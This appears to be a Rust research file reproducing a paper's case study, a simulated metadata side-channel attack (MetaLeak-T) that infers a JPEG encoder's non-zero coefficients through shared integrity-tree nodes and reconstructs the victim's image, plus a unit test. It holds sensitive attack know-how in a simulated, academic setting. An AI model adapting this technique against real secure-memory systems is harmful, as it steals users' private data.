@@ -1,0 +1,114 @@
+//! Case study §VIII-A1: stealing images from a libjpeg-style encoder
+//! with MetaLeak-T (Figure 15).
+//!
+//! The victim's `encode_one_block` touches the `r` page for zero AC
+//! coefficients (Listing 1 line 6) and the `nbits` page for non-zero
+//! ones (line 10). The attacker monitors both pages' shared tree nodes
+//! with interleaved mEvict+mReload windows (one per coefficient,
+//! SGX-Step-style), infers the per-block non-zero masks, and rebuilds
+//! the image locally.
+
+use metaleak_attacks::dual::{find_partner_block, victim_touch, DualPageMonitor};
+use metaleak_attacks::error::AttackError;
+use metaleak_engine::config::SecureConfig;
+use metaleak_engine::secmem::SecureMemory;
+use metaleak_sim::addr::CoreId;
+use metaleak_victims::jpeg::{
+    encode_image, mask_accuracy, nonzero_masks, reconstruct_from_masks, GrayImage, DCT_SIZE2,
+};
+
+/// Result of the image-exfiltration case study.
+#[derive(Debug, Clone)]
+pub struct JpegTOutcome {
+    /// The victim's input image.
+    pub original: GrayImage,
+    /// Reconstruction from the side-channel-inferred masks.
+    pub stolen: GrayImage,
+    /// Reconstruction from the ground-truth masks (the paper's
+    /// "Oracle" row in Figure 15: instrumentation-level access info).
+    pub oracle: GrayImage,
+    /// Fraction of zero/non-zero flags inferred correctly (the paper's
+    /// stealing accuracy; 94.3% in their SCT setup).
+    pub mask_accuracy: f64,
+    /// PSNR of the stolen image against the oracle reconstruction.
+    pub psnr_vs_oracle: f64,
+    /// Observation windows used (one per AC coefficient).
+    pub windows: usize,
+}
+
+/// Runs the attack. `victim_r_page` positions the victim's `r`
+/// variable; the `nbits` page is co-located automatically. `level` is
+/// the shared tree level (0 for SCT as in §VIII-A1).
+///
+/// # Errors
+/// Propagates attack-planning failures.
+pub fn run_jpeg_t(
+    config: SecureConfig,
+    image: &GrayImage,
+    victim_r_page: u64,
+    level: u8,
+) -> Result<JpegTOutcome, AttackError> {
+    let mut mem = SecureMemory::new(config);
+    let spy = CoreId(0);
+    let victim = CoreId(1);
+    // Victim variable placement (the attacker steered this via the
+    // per-core free-list technique; see `examples/page_steering.rs`).
+    let r_block = victim_r_page * 64;
+    let nbits_block = find_partner_block(&mem, r_block, level).ok_or(AttackError::NoProbeBlock)?;
+    let dual = DualPageMonitor::new(&mut mem, spy, r_block, nbits_block, level)?;
+
+    // Ground truth: the victim's real encoding pass.
+    let encodings = encode_image(image);
+    let truth_masks = nonzero_masks(&encodings);
+
+    // The attack: one window per coefficient event.
+    let mut inferred_masks = vec![[false; DCT_SIZE2]; encodings.len()];
+    let mut windows = 0;
+    for (bi, enc) in encodings.iter().enumerate() {
+        for ev in &enc.events {
+            let sample = dual.window(&mut mem, spy, |m| {
+                if ev.nonzero {
+                    victim_touch(m, victim, nbits_block); // Listing 1 line 10
+                } else {
+                    victim_touch(m, victim, r_block); // Listing 1 line 6
+                }
+            });
+            // Decode: the `nbits` monitor firing means non-zero.
+            inferred_masks[bi][ev.k] = sample.b_seen && !sample.a_seen;
+            windows += 1;
+        }
+    }
+
+    let acc = mask_accuracy(&inferred_masks, &truth_masks);
+    let stolen = reconstruct_from_masks(&inferred_masks, image.width, image.height);
+    let oracle = reconstruct_from_masks(&truth_masks, image.width, image.height);
+    let psnr_vs_oracle = stolen.psnr(&oracle);
+    Ok(JpegTOutcome {
+        original: image.clone(),
+        stolen,
+        oracle,
+        mask_accuracy: acc,
+        psnr_vs_oracle,
+        windows,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::configs;
+
+    #[test]
+    fn steals_a_small_image_with_high_accuracy() {
+        let image = GrayImage::circle(16, 16);
+        let out = run_jpeg_t(configs::sct_experiment(), &image, 100, 0).unwrap();
+        assert_eq!(out.windows, 4 * 63);
+        assert!(
+            out.mask_accuracy >= 0.9,
+            "stealing accuracy {} below 0.9",
+            out.mask_accuracy
+        );
+        // The stolen reconstruction must closely track the oracle.
+        assert!(out.psnr_vs_oracle > 20.0, "psnr {}", out.psnr_vs_oracle);
+    }
+}
